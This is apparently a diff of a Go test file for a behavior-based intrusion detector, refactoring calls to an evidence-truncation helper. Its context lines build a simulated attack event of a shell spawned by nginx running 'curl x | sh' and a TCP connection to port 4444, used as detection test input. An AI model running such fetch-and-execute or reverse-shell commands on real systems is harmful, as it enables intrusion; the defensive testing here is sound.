@@ -117,7 +117,7 @@ func TestBoundEvidence(t *testing.T) {
 		ev.Findings = append(ev.Findings, behavior.Finding{Component: "exec", Score: float64(i) / 40, Reason: strings.Repeat("x", 400), Tokens: []string{strings.Repeat("t", 100), "a", "b", "c", "d", "e", "f"}})
 	}
 	raw, _ := json.Marshal(ev)
-	out := boundEvidence(raw, 4096)
+	out := boundEvidence(raw)
 	if len(out) > 4096 {
 		t.Fatalf("%d bytes", len(out))
 	}
@@ -126,10 +126,10 @@ func TestBoundEvidence(t *testing.T) {
 		t.Fatalf("bounded evidence %s (%v)", out, err)
 	}
 	small := json.RawMessage(`{"a":1}`)
-	if string(boundEvidence(small, 4096)) != string(small) {
+	if string(boundEvidence(small)) != string(small) {
 		t.Error("small evidence changed")
 	}
-	if out := boundEvidence(json.RawMessage(`"`+strings.Repeat("z", 5000)+`"`), 4096); len(out) > 4096 || !strings.Contains(string(out), "truncated") {
+	if out := boundEvidence(json.RawMessage(`"` + strings.Repeat("z", 5000) + `"`)); len(out) > 4096 || !strings.Contains(string(out), "truncated") {
 		t.Errorf("foreign evidence: %s", out)
 	}
 	if got := truncate("héllo", 4); got != "…" && len(got) > 4 {
@@ -219,7 +219,7 @@ func TestLearnThenScoreConvertedEvents(t *testing.T) {
 	if err != nil || len(sigs) != 1 || sigs[0].Score >= 0.5 {
 		t.Fatalf("normal after learning: %+v %v, want one low score", sigs, err)
 	}
-	attack := []detector.BehaviorEvent{}
+	attack := make([]detector.BehaviorEvent, 0, 4)
 	for _, e := range []Event{
 		{Exec: &Exec{Binary: "/bin/sh", Parent: "/usr/sbin/nginx", Args: []string{"sh", "-c", "curl x | sh"}}},
 		{Conn: &Conn{Addr: netip.MustParseAddr("203.0.113.9"), Port: 4444, Protocol: "TCP"}},
